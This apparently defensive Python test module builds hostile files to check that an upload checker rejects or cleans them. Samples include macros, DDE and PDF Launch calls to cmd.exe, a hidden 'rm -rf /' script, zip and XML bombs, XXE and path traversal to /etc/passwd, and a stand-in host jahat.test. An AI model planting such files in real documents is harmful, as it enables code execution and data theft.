@@ -1,0 +1,226 @@
+"""Sixty files that mean harm, or look as if, and what becomes of each.
+
+A case is (name, bytes, refusal). Where the refusal is None the file is taken, and nothing of the
+harm may be left in what is kept: `traces` says what to look for.
+"""
+
+import io
+import zipfile
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+from pypdf import PdfReader, PdfWriter
+
+from coordinator.evidence.rules import OLE, Refusal
+from tests.evidence import making
+from tests.evidence.making import encrypted_zip, jpeg, part, pdf, picture, repacked, sheet, word
+
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
+HTML = b"<html><script>alert(1)</script></html>"
+JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One file and what becomes of it."""
+
+    name: str
+    data: bytes
+    refusal: Refusal | None = None
+    traces: tuple[bytes, ...] = ()
+
+
+def _zip(parts: dict[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", pack) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def _bomb() -> bytes:
+    """A DOCX whose document unpacks to 400 MB."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        with archive.open("word/document.xml", "w", force_zip64=True) as document:
+            for _ in range(400):
+                document.write(b"a" * 1_000_000)
+    return out.getvalue()
+
+
+def _lying_bomb() -> bytes:
+    """The same, with a directory that promises a hundred bytes."""
+    data = bytearray(_bomb())
+    place = data.rfind(b"PK\x01\x02")
+    data[place + 24 : place + 28] = (100).to_bytes(4, "little")
+    return bytes(data)
+
+
+def _many(count: int) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<x/>")
+        for number in range(count):
+            archive.writestr(f"word/{number}", b"")
+    return out.getvalue()
+
+
+def _xml_bomb() -> bytes:
+    entities = b'<!ENTITY a "aaaaaaaaaa">' + b"".join(
+        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
+    )
+    return b'<?xml version="1.0"?><!DOCTYPE x [' + entities + b"]><x>&j;</x>"
+
+
+def _pages(count: int) -> bytes:
+    return pdf(*(["Rapat."] * count))
+
+
+def programs() -> Iterator[Hostile]:
+    """What runs, under names that do not say so."""
+    no = Refusal.PROGRAM
+    macro_type = part(word(), "[Content_Types].xml").replace(
+        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
+    )
+    relation = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="r9" Type="http://x/attachedTemplate" '
+        b'Target="http://jahat.test/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    yield Hostile("makro.docm", repacked(word(), {"word/vbaProject.bin": b"x"}), no)
+    yield Hostile("makro.xlsm", repacked(sheet(), {"xl/vbaProject.bin": b"x"}), no)
+    yield Hostile("makro.xlsx", repacked(sheet(), {"xl/VBAPROJECT.BIN": b"x"}), no)
+    yield Hostile("tipe makro.docx", repacked(word(), {"[Content_Types].xml": macro_type}), no)
+    yield Hostile("excel4.xlsx", repacked(sheet(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), no)
+    yield Hostile("activex.docx", repacked(word(), {"word/activeX/activeX1.xml": b"<x/>"}), no)
+    yield Hostile("ole.docx", repacked(word(), {"word/embeddings/oleObject1.bin": OLE}), no)
+    yield Hostile("program.docx", repacked(word(), {"word/setup.exe": b"MZ"}), no)
+    yield Hostile("asing.docx", repacked(word(), {"word/apa.saja": b"?"}), no)
+    dde = b'<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'
+    yield Hostile("dde.docx", repacked(word(), {"word/document.xml": dde}), no)
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+    yield Hostile("svg.docx", repacked(word(), {"word/media/a.svg": svg}), no)
+    yield Hostile(
+        "templat jauh.docx",
+        repacked(word(), {"word/_rels/settings.xml.rels": relation}),
+        None,
+        (b"jahat.test",),
+    )
+    yield Hostile("buka.pdf", pdf("Rapat.", root=f"/OpenAction {JS}"), no)
+    yield Hostile("halaman.pdf", pdf("Rapat.", page_more=f"/AA << /O {JS} >>"), no)
+    names = f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"
+    yield Hostile("nama.pdf", pdf("Rapat.", root=names), no)
+    hidden = {50: JS.replace("/JavaScript", "/J#61vaScript").encode()}
+    yield Hostile("tersamar.pdf", pdf("Rapat.", root="/OpenAction 50 0 R", objects=hidden), no)
+    launch = "/OpenAction << /S /Launch /F (cmd.exe) >>"
+    yield Hostile("jalankan.pdf", pdf("Rapat.", root=launch), no)
+    yield Hostile("xfa.pdf", pdf("Rapat.", root="/AcroForm << /XFA (x) /Fields [] >>"), no)
+    yield Hostile("eicar.pdf", EICAR, no)
+    yield Hostile("eicar.docx", repacked(word(), {"word/embeddings/a.xml": EICAR}), no)
+    attached = {
+        50: b"<< /Type /Filespec /F (surat.exe) /UF (surat.exe) /EF << /F 51 0 R >> >>",
+        51: making.stream(b"MZ-program-di-dalam", "/Type /EmbeddedFile"),
+    }
+    tree = "/Names << /EmbeddedFiles << /Names [(surat.exe) 50 0 R] >> >>"
+    yield Hostile(
+        "lampiran.pdf", pdf("Rapat.", root=tree, objects=attached), None, (b"MZ-program",)
+    )
+    send = "/OpenAction << /S /SubmitForm /F (http://jahat.test/) >>"
+    yield Hostile("kirim.pdf", pdf("Rapat.", root=send), None, (b"jahat.test",))
+
+
+def disguises() -> Iterator[Hostile]:
+    """What is something else than its name, or two things at once."""
+    kind = Refusal.TYPE
+    yield Hostile("exe.pdf", b"MZ\x90\x00" + b"\x00" * 500 + b"%%EOF", kind)
+    yield Hostile("elf.pdf", b"\x7fELF" + b"\x00" * 200, kind)
+    yield Hostile("html.jpg", HTML, kind)
+    yield Hostile("doctype.jpeg", b"<!doctype html><p>x", kind)
+    yield Hostile("svg.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', kind)
+    yield Hostile("logo.svg", b'<?xml version="1.0"?><svg/>', kind)
+    yield Hostile("naskah.pdf", b"#!/bin/sh\nrm -rf /\n%PDF-1.7\n%%EOF", kind)
+    yield Hostile("gif.jpg", b"GIF89a" + b"\x00" * 100, kind)
+    yield Hostile("gifar.jpg", b"GIF89a" + _zip({"a.class": b"x"}), kind)
+    yield Hostile("rar.docx", b"Rar!\x1a\x07\x00" + b"\x00" * 100, kind)
+    yield Hostile("7z.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100, kind)
+    yield Hostile("arsip.docx", _zip({"setup.txt": b"x"}), kind)
+    yield Hostile("arsip.pdf", _zip({"a.pdf": pdf("x")}), kind)
+    yield Hostile(
+        "presentasi.docx", _zip({"[Content_Types].xml": b"<T/>", "ppt/p.xml": b"<x/>"}), kind
+    )
+    yield Hostile("teks.pdf", b"halo, ini teks", kind)
+    yield Hostile("gambar.avif", b"\x00\x00\x00\x20ftypavif" + b"\x00" * 100, kind)
+    yield Hostile("merek salah.heic", b"\x00\x00\x00\x20ftypheic" + b"\x00" * 100, Refusal.DAMAGED)
+    yield Hostile("lama.doc", OLE + b"\x00" * 600, Refusal.OLD_FORMAT)
+    yield Hostile("lama.xls", OLE + b"W\x00o\x00r\x00k" * 60, Refusal.OLD_FORMAT)
+    yield Hostile("jpeg dan html.jpg", jpeg() + HTML, None, (b"<script",))
+    yield Hostile("jpeg dan zip.jpg", jpeg() + _zip({"a.class": b"isi-kelas"}), None, (b"PK\x03",))
+    yield Hostile("komentar.jpg", jpeg(comment=HTML), None, (b"<script",))
+    yield Hostile("png dan html.png", picture("PNG") + HTML, None, (b"<script",))
+    both = pdf("Rapat.") + _zip({"a.class": b"isi-kelas"}) + b"\n%%EOF\n"
+    yield Hostile("pdf dan zip.pdf", both, Refusal.DAMAGED)
+    behind = pdf("Rapat.") + _zip({"a.class": b"isi-kelas"})
+    yield Hostile("zip di ekor.pdf", behind, None, (b"PK\x03", b"PK\x01"))
+    yield Hostile("ekor.docx", word() + HTML, None, (b"<script",))
+
+
+def bombs() -> Iterator[Hostile]:
+    """Small files that would fill memory, disk or an afternoon."""
+    much = Refusal.TOO_COMPLEX
+    yield Hostile("bom.docx", _bomb(), much)
+    yield Hostile("bom berbohong.docx", _lying_bomb(), Refusal.DAMAGED)
+    yield Hostile("seratus ribu.docx", _many(100_000), much)
+    yield Hostile(
+        "bom xml.docx", repacked(word(), {"word/document.xml": _xml_bomb()}), Refusal.DAMAGED
+    )
+    outer = b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
+    yield Hostile("xml luar.xlsx", repacked(sheet(), {"xl/workbook.xml": outer}), Refusal.DAMAGED)
+    nested = word()
+    for _ in range(3):
+        nested = repacked(word(), {"word/embeddings/a.docx": nested})
+    yield Hostile("bersarang.docx", nested, much)
+    yield Hostile("piksel.png", making.png_of_size(60_000, 60_000), much)
+    yield Hostile("halaman.pdf", _pages(600), much)
+    yield Hostile("dua puluh ribu.pdf", pdf("x").replace(b"/Count 1", b"/Count 20000"), much)
+    loop = {50: b"<< /Type /Pages /Kids [50 0 R] /Count 3 /Parent 2 0 R >>"}
+    ring = pdf("x", objects=loop).replace(b"[100 0 R]", b"[50 0 R 100 0 R]")
+    yield Hostile("melingkar.pdf", ring, Refusal.DAMAGED)
+    deep = b"[" * 50_000 + b"]" * 50_000
+    yield Hostile("dalam.pdf", pdf("x", root="/Deep 50 0 R", objects={50: deep}), much)
+    xml = b"<x>" * 200_000
+    yield Hostile("xml dalam.docx", repacked(word(), {"word/document.xml": xml}), Refusal.DAMAGED)
+
+
+def broken() -> Iterator[Hostile]:
+    """Empty, cut off, locked."""
+    cut = Refusal.DAMAGED
+    yield Hostile("kosong.pdf", b"", Refusal.EMPTY)
+    yield Hostile("potong.jpg", jpeg((400, 300))[:900], cut)
+    yield Hostile("potong.png", picture("PNG", (400, 300))[:120], cut)
+    yield Hostile("potong.heic", picture("HEIF", (400, 300))[:400], cut)
+    yield Hostile("potong.pdf", pdf("Rapat.")[:-30], cut)
+    yield Hostile("potong.docx", word()[:-200], cut)
+    yield Hostile("potong.xlsx", sheet()[:2000], cut)
+    yield Hostile("rusak.pdf", b"%PDF-1.7\n" + b"\x00" * 300 + b"%%EOF", cut)
+    yield Hostile("sandi.docx", encrypted_zip(word()), Refusal.PASSWORD)
+    package = OLE + b"\x00" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 500
+    yield Hostile("sandi.xlsx", package, Refusal.PASSWORD)
+    yield Hostile("sandi.pdf", locked_pdf(), Refusal.PASSWORD)
+    yield Hostile("jalan.docx", repacked(word(), {"../../etc/passwd": b"x"}), cut)
+    yield Hostile("mutlak.xlsx", repacked(sheet(), {"/etc/passwd": b"x"}), cut)
+
+
+def locked_pdf() -> bytes:
+    """A PDF with a password, as pypdf writes it."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("Rapat."))))
+    writer.encrypt("rahasia", algorithm="RC4-128")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def everything() -> list[Hostile]:
+    """All of them."""
+    return [*programs(), *disguises(), *bombs(), *broken()]
